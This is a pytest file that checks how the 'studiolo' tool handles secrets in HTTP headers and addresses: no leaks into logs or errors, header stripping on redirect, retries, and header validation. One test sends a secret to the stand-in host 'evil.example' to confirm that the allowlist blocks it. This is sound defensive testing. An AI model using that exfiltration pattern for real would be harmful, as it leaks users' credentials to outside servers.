"""Headers and secrets of http(s) addresses, retries that are told, and what stands in no message (R-4.3, R-12.1)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from studiolo import Workspace
from studiolo.connectors.headers import parse_headers
from studiolo.errors import StudioloError, UserError

TOKEN = "t0ken/with+signs="


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Workspace]:
    """A workspace that may reach this machine and has a secret."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    Workspace.create(tmp_path / "work", "Test").close()
    (tmp_path / "work/studiolo.toml").write_text('name = "Test"\n[grants]\nnetwork = ["127.0.0.1:*"]\n')
    with Workspace(tmp_path / "work") as opened:
        opened.secrets.set("api", TOKEN)
        yield opened


def read(workspace: Workspace, **parameters: Any) -> Any:
    experiment = workspace.new_experiment(f"e{len(workspace.experiment_names())}").remove("script")
    experiment.add("read", "import-data", parameters=parameters)
    node = experiment.run()["read"]
    if node.error is not None:
        raise node.error
    return node


def test_a_secret_goes_into_a_header_and_nowhere_else(workspace: Workspace, server: Any) -> None:
    """Neither the row of the run nor its log, snapshot or database hold the value."""
    node = read(
        workspace,
        address=f"{server.address}/table/x.csv",
        headers="Authorization: Bearer {secret:api}\nX-A: b",
    )
    assert (server.headers[-1]["Authorization"], server.headers[-1]["X-A"]) == (f"Bearer {TOKEN}", "b")
    assert node.warnings == ()
    for path in workspace.path.rglob("*"):
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes(), path


def test_a_header_is_not_sent_to_where_a_server_sends(workspace: Workspace, server: Any) -> None:
    """What is meant for one server is not for another."""
    address = f"{server.address}/redirect/{server.address}/table"
    read(workspace, address=address, headers="X-Key: {secret:api}", format="csv")
    assert [headers.get("X-Key") for headers in server.headers] == [TOKEN, None]


def test_a_server_that_repeats_a_secret_does_not_put_it_into_the_error(
    workspace: Workspace, server: Any
) -> None:
    """The address's query is not shown, and what the server says is searched for it."""
    with pytest.raises(StudioloError) as caught:
        read(workspace, address=f"{server.address}/echo?key={{secret:api}}", format="csv")
    assert caught.value.code == "address-status"
    assert TOKEN not in str(caught.value)
    assert "{secret:api}" in caught.value.hint


def test_a_fault_that_passed_is_told(workspace: Workspace, server: Any) -> None:
    """Retries are bounded, and stand among the warnings of the node."""
    server.failures = 2
    node = read(workspace, address=f"{server.address}/failing/x.csv")
    assert node.warnings == (
        f"{server.address}/failing/x.csv answered 503 Service Unavailable. It was tried again.",
    )


def test_a_missing_secret_is_found_before_anything_runs(workspace: Workspace, server: Any) -> None:
    """With the nearest name; the check tells it as well as the run."""
    parameters = {"address": f"{server.address}/table?key={{secret:apj}}"}
    with pytest.raises(StudioloError) as caught:
        read(workspace, **parameters)
    assert "unknown-secret" in str(caught.value)
    assert 'Did you mean "api"?' in str(caught.value)
    assert server.asked == []
    experiment = workspace.new_experiment("check").remove("script")
    experiment.add("read", "import-data", parameters=parameters)
    with pytest.raises(StudioloError) as caught:
        experiment.check()
    assert "unknown-secret" in str(caught.value)


def test_a_secret_is_not_sent_where_the_workspace_does_not_allow(workspace: Workspace) -> None:
    """A stranger's experiment must not send it to a server of the stranger's."""
    with pytest.raises(StudioloError) as caught:
        read(workspace, address="https://evil.example/?{secret:api}", format="csv")
    assert "address-not-allowed" in str(caught.value)
    assert "evil.example:443" in str(caught.value)
    with pytest.raises(StudioloError) as caught:
        read(workspace, address="https://evil.example/", headers="X: {secret:api}", format="csv")
    assert caught.value.code == "address-not-allowed"


def test_a_secret_that_is_for_one_server_goes_to_no_other(workspace: Workspace, server: Any) -> None:
    """However much the workspace allows: two of its servers need not know each other's secrets."""
    workspace.secrets.set("api", TOKEN, ["127.0.0.1:9", server.address.partition("//")[2]])
    read(workspace, address=f"{server.address}/table/x.csv?key={{secret:api}}")
    workspace.secrets.set("api", TOKEN, ["127.0.0.1:9"])
    with pytest.raises(StudioloError) as caught:
        read(workspace, address=f"{server.address}/table/y.csv?key={{secret:api}}")
    assert (caught.value.code, 'The secret "api" is not for' in caught.value.summary) == (
        "address-not-allowed",
        True,
    )
    assert len(server.asked) == 1


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("nothing", "Line 1 of the headers is not NAME: VALUE."),
        ("A: b\nHost: x", "Line 2 of the headers sets Host, which studiolo sets itself."),
        ("A: b\x01secret", "Line 1 of the headers has a value with letters that a header can't have."),
    ],
)
def test_headers_that_cannot_be_sent_are_refused_without_their_value(text: str, says: str) -> None:
    """A value may be a secret."""
    with pytest.raises(UserError) as caught:
        parse_headers(text)
    assert (caught.value.code, caught.value.summary) == ("bad-header", says)
